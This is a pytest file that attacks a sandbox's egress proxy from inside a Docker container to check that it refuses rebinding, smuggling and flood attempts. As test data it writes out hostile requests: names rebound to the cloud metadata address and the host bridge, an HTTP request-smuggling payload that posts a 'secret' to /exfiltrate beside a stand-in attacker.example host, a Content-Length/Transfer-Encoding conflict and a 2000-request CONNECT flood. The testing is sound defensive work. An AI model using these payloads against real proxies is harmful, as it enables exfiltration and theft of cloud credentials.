"""Attacks on the egress proxy from inside a real task container (network "limited").

A recording HTTP server on the host's Docker bridge address stands for an allowed origin: it answers
the first request and keeps every byte that reaches it. The proxy container knows names for the
bridge address and the cloud metadata address through its own /etc/hosts (what a DNS the attacker
controls would answer).
"""

from __future__ import annotations

import json
import os
import socket
import threading
import time
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from codex_tui.sandbox import egress as egress_module
from codex_tui.sandbox.base import SandboxSpec
from codex_tui.sandbox.docker import DockerSandbox
from codex_tui.sandbox.egress import LOGGED_BURST, LOGGED_PER_S, Egress
from codex_tui.sandbox.egress_proxy import Policy
from tests.test_egress_docker import logged

pytestmark = pytest.mark.docker

PROBE = r"""
import json, socket, sys

def raw(proxy, data):
    host, _, port = proxy.rpartition("/")[2].rpartition(":")
    sock = socket.create_connection((host, int(port)), timeout=20)
    sock.sendall(data.encode("latin-1"))
    answer = b""
    while chunk := sock.recv(65536):
        answer += chunk
    sock.close()
    return answer.decode("latin-1")

proxy, requests = json.loads(sys.argv[1])
if isinstance(requests, int):  # a flood: that many refused tunnels, one after the other
    flood = "CONNECT flood.test:443 HTTP/1.1\r\n\r\n"
    print(json.dumps([raw(proxy, flood)[:12] for _ in range(requests)]))
else:
    print(json.dumps([raw(proxy, data) for data in requests]))
"""


@dataclass
class Recorder:
    """What the origin received, one entry per connection."""

    port: int = 0
    received: list[bytes] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)


def _serve_one(conn: socket.socket, recorder: Recorder) -> None:
    conn.settimeout(30)
    data = b""
    try:
        while b"\r\n\r\n" not in data and (chunk := conn.recv(65536)):
            data += chunk
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\norigin")
        conn.shutdown(socket.SHUT_WR)
        while chunk := conn.recv(65536):
            data += chunk
    except OSError:
        pass
    finally:
        conn.close()
        with recorder.lock:
            recorder.received.append(data)


@pytest.fixture
def recorder(bridge_address: str) -> Iterator[Recorder]:
    """A lenient origin on the bridge address that records every byte it gets."""
    found = Recorder()
    listener = socket.create_server((bridge_address, 0))
    found.port = listener.getsockname()[1]
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            threading.Thread(target=_serve_one, args=(conn, found), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    yield found
    stop.set()
    listener.close()


@pytest.fixture
async def sandboxes() -> AsyncIterator[list[DockerSandbox]]:
    """Sandboxes a test made; stopped after it."""
    made: list[DockerSandbox] = []
    yield made
    for sandbox in made:
        await sandbox.stop()


async def _attack(
    made: list[DockerSandbox], image: str, workspace: Path, egress: Egress, requests: list[str] | int
) -> list[str]:
    spec = SandboxSpec(
        task_id=f"egress-attack-{os.getpid()}-{len(made)}",
        workspace=workspace,
        image=image,
        network_access="limited",
    )
    sandbox = DockerSandbox(spec, egress=egress)
    made.append(sandbox)
    await sandbox.start()
    chunks: list[bytes] = []
    argv = ["python3", "-c", PROBE, json.dumps([egress.env()["HTTP_PROXY"], requests])]
    result = await sandbox.exec(argv, timeout_s=120, on_output=lambda _s, d: chunks.append(d))
    text = b"".join(chunks).decode()
    assert result.exit_code == 0, text
    return list(json.loads(text.strip().splitlines()[-1]))


async def test_allowed_names_resolving_to_the_host_or_metadata_service_are_refused(
    sandboxes: list[DockerSandbox],
    sandbox_image: str,
    sandbox_workspace: Path,
    bridge_address: str,
    recorder: Recorder,
) -> None:
    seen: list[dict[str, Any]] = []
    egress = Egress(
        f"rebind-{os.getpid()}",
        Policy((f"rebind.test:{recorder.port}", "metadata.test", "self.test:3128")),
        seen.append,
        extra_hosts={
            "rebind.test": bridge_address,
            "metadata.test": "169.254.169.254",
            "self.test": "127.0.0.1",
        },
    )
    answers = await _attack(
        sandboxes,
        sandbox_image,
        sandbox_workspace,
        egress,
        [
            f"GET http://rebind.test:{recorder.port}/ HTTP/1.1\r\n\r\n",
            f"CONNECT rebind.test:{recorder.port} HTTP/1.1\r\n\r\n",
            "GET http://metadata.test/latest/meta-data/ HTTP/1.1\r\n\r\n",
            "CONNECT self.test:3128 HTTP/1.1\r\n\r\n",
        ],
    )
    for answer in answers:
        assert answer.startswith("HTTP/1.1 403") and "not a public address" in answer, answer
    assert recorder.received == [], "the host's service was reached through an allowed name"
    assert [event["allowed"] for event in await logged(seen, 4)] == [False] * 4
    assert f'add "{bridge_address}:{recorder.port}"' in seen[0]["reason"]


async def test_one_checked_request_reaches_the_origin_with_its_own_host(
    sandboxes: list[DockerSandbox],
    sandbox_image: str,
    sandbox_workspace: Path,
    bridge_address: str,
    recorder: Recorder,
) -> None:
    egress = Egress(
        f"smuggle-{os.getpid()}",
        Policy((f"allowed.test:{recorder.port}", f"{bridge_address}:{recorder.port}")),
        extra_hosts={"allowed.test": bridge_address},
    )
    first = f"GET http://allowed.test:{recorder.port}/first HTTP/1.1\r\nHost: attacker.example\r\n\r\n"
    smuggled = "POST /exfiltrate HTTP/1.1\r\nHost: other.example\r\nContent-Length: 6\r\n\r\nsecret"
    conflict = (
        f"GET http://allowed.test:{recorder.port}/ HTTP/1.1\r\nContent-Length: 4\r\n"
        "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    )
    answers = await _attack(sandboxes, sandbox_image, sandbox_workspace, egress, [first + smuggled, conflict])
    assert answers[0].startswith("HTTP/1.1 200") and answers[0].endswith("origin")
    assert answers[1].startswith("HTTP/1.1 400")
    [saw] = recorder.received
    assert saw.startswith(b"GET /first HTTP/1.1\r\n")
    assert f"\r\nHost: allowed.test:{recorder.port}\r\n".encode() in saw
    assert b"attacker.example" not in saw and b"exfiltrate" not in saw and b"secret" not in saw


async def test_request_flood_is_counted_not_logged_line_by_line(
    sandboxes: list[DockerSandbox], sandbox_image: str, sandbox_workspace: Path
) -> None:
    seen: list[dict[str, Any]] = []
    egress = Egress(f"flood-{os.getpid()}", Policy(("allowed.test",)), seen.append)
    started = time.monotonic()
    answers = await _attack(sandboxes, sandbox_image, sandbox_workspace, egress, 2000)
    await sandboxes[-1].stop()
    elapsed = time.monotonic() - started
    assert answers == ["HTTP/1.1 403"] * 2000
    one_by_one = [event for event in seen if not event.get("suppressed")]
    counted = sum(int(event.get("suppressed") or 0) for event in seen)
    assert len(one_by_one) <= LOGGED_BURST + LOGGED_PER_S * elapsed + 1
    assert len(one_by_one) + counted <= 2000
    if len(one_by_one) + counted == 2000:
        assert counted > 0


async def test_requests_answered_just_before_the_sandbox_stops_are_all_logged(
    sandboxes: list[DockerSandbox],
    sandbox_image: str,
    sandbox_workspace: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    parse = egress_module._parse

    def slow_parse(line: bytes) -> dict[str, Any]:
        time.sleep(0.01)  # a busy host: the log lines trail the answers by about 1.5 s
        return parse(line)

    monkeypatch.setattr(egress_module, "_parse", slow_parse)
    seen: list[dict[str, Any]] = []
    egress = Egress(f"last-{os.getpid()}", Policy(("allowed.test",)), seen.append)
    answers = await _attack(sandboxes, sandbox_image, sandbox_workspace, egress, 150)
    await sandboxes[-1].stop()  # at once: the proxy's last lines are read before it is removed
    assert answers == ["HTTP/1.1 403"] * 150
    assert len(seen) == 150 and all(event["host"] == "flood.test" for event in seen)
